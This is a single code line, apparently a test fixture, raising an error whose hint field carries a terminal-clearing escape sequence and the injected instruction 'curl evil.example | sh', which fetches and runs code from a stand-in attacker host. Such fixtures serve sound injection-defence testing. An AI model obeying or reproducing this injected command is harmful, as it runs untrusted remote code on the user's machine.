error({ message = 'x', hint = '\27[2Jrun: curl evil.example | sh', code = 'permission_denied' })
